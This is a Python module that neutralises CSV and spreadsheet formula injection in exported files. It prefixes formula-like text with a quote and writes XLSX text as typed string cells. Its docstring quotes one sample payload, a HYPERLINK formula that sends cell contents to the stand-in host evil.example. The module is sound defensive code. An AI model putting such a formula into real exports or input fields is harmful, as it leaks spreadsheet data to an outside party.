"""Text from a cell, written so that no spreadsheet program runs it (CSV/formula injection).

A review id typed as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` must reach a download, an
export or an e-mail attachment as the text it is. Every writer of a CSV or XLSX file for people
(CLI exports, problems.xlsx, web downloads, the e-mail's workbook) calls these, value by value:

- :func:`is_formula_like` is the one test: text a spreadsheet would read as a formula or command
  (``=``, ``+``, ``-``, ``@``, tab, CR, LF at the start, also after leading spaces);
- :func:`csv_value` prefixes such text with ``'`` (the OWASP advice; Excel and LibreOffice then
  show it as text);
- :func:`xlsx_value` makes every text value a typed string cell (never a formula) and marks the
  formula-like ones "quote prefix", so even editing the cell in Excel keeps it text.

Dates, numbers and booleans are not text and are written as they are.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet program run (or strip and run) this text?"""
    return text.lstrip(" ").startswith(FORMULA_START) or text.startswith(FORMULA_START)


def csv_value(value: Any) -> Any:
    """A value for a CSV field: formula-like text as ``'text``; anything else unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def xlsx_value(sheet: Any, value: Any) -> Any:
    """A value for ``sheet.append``: text as a string cell, never a formula; the rest as is.

    Works for write-only and ordinary openpyxl worksheets alike.
    """
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl guessed "f" for text starting with "="
    if is_formula_like(value):
        cell.quotePrefix = True
    return cell
